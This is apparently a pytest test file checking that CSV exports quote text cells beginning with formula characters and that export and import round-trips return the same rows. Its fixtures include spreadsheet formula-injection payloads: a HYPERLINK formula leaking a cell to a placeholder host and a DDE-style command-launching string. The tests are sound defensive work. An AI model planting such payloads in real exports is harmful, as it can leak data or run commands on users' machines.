"""CSV exports never hand a spreadsheet a formula from imported text, and still read back exactly."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from engine.io.exporters import csv_bytes, export_table, frame_csv_bytes, store_rows
from engine.io.importers import import_file, parse_own
from engine.seed.records import LatencyPointRow, RpcFigureRow
from engine.report import tables
from engine.seed.reader import FORMULA_STARTS, neutralise_formula, restore_formula
from engine.store import Store

LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
HOSTILE = dict(note=LINK, source="@SUM(1+1)*cmd|' /C calc'!A0", framework="+triton", measured_on="-2+3 lab\thost")


def _cells(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def _row(**kw) -> LatencyPointRow:
    base = dict(model="resnet50", sku="A100-SXM4-40GB", partition="full", precision="fp16", framework="trt", batch=4,
                mean_ms=0.1 + 0.2, throughput=4000 / 0.3 - 1e-9, kind="measured", source="bench run")
    return LatencyPointRow(**base | kw)


def test_text_that_starts_a_formula_is_exported_behind_a_quote():
    (cells,) = _cells(csv_bytes([_row(**HOSTILE)], LatencyPointRow))
    assert cells["note"] == "'" + LINK
    assert cells["source"].startswith("'@SUM") and cells["framework"] == "'+triton"
    assert cells["measured_on"] == "'-2+3 lab\thost"
    assert cells["model"] == "resnet50" and cells["kind"] == "measured"  # ordinary text untouched


def test_numbers_are_never_quoted_and_read_back_exactly():
    rows = [RpcFigureRow(category="net", item="-3", setting="=x", metric="m", value=-3.0000000000000004,
                         unit="dB", source="paper"),
            RpcFigureRow(category="net", item="b", setting="s", metric="m", value=-1e-300, unit="-", source="paper")]
    first, second = _cells(csv_bytes(rows, RpcFigureRow))
    assert first["value"] == "-3.0000000000000004" and second["value"] == "-1e-300"
    assert first["item"] == "-3" and first["setting"] == "'=x" and second["unit"] == "'-"  # "-3" is a number


def test_an_exported_csv_imports_back_to_the_same_rows(tmp_path):
    store = Store(tmp_path / "k.duckdb")
    try:
        rows = [_row(**HOSTILE), _row(batch=8, note="'=already quoted", throughput=100.0),
                _row(batch=16, note="'", source="-500", throughput=100.0)]
        store.add_many({"latency_points": rows})
        path = tmp_path / "latency_points.csv"
        export_table(store, "latency_points", path, "csv", user_only=True)
        assert "'=HYPERLINK" in path.read_text() and "''=already quoted" in path.read_text()
        assert parse_own(path, "latency_points") == store_rows(store, "latency_points", user_only=True)
        fresh = Store(tmp_path / "fresh.duckdb")
        import_file(fresh, path)
        exported = store_rows(store, "latency_points", user_only=True)
        assert store_rows(fresh, "latency_points", user_only=True) == exported
        fresh.close()
    finally:
        store.close()


@pytest.mark.parametrize("text", [LINK, "-5", "-1.5e3", "+7", "-inf", "@x", "\tx", "\rx", "-", "'", "'=x", "''+x",
                                  "plain", "", "'plain", "=", "a=b"])
def test_neutralising_is_undone_exactly(text):
    quoted = neutralise_formula(text)
    assert restore_formula(quoted) == text
    assert not quoted.startswith(FORMULA_STARTS) or float(quoted) == float(text)  # a formula never leads


def test_page_and_report_tables_quote_text_and_leave_numbers():
    frame = pd.DataFrame({"scenario": ["=cmd()", "ok"], "value": [-1.25, 3.0], "note": [None, "@x"],
                          "count": [-3, 4]})
    for data in (frame_csv_bytes(frame), tables.csv_bytes(frame)):
        first, second = _cells(data)
        assert first == {"scenario": "'=cmd()", "value": "-1.25", "note": "", "count": "-3"}
        assert second["note"] == "'@x"
    assert frame["scenario"][0] == "=cmd()"  # the caller's frame is not changed
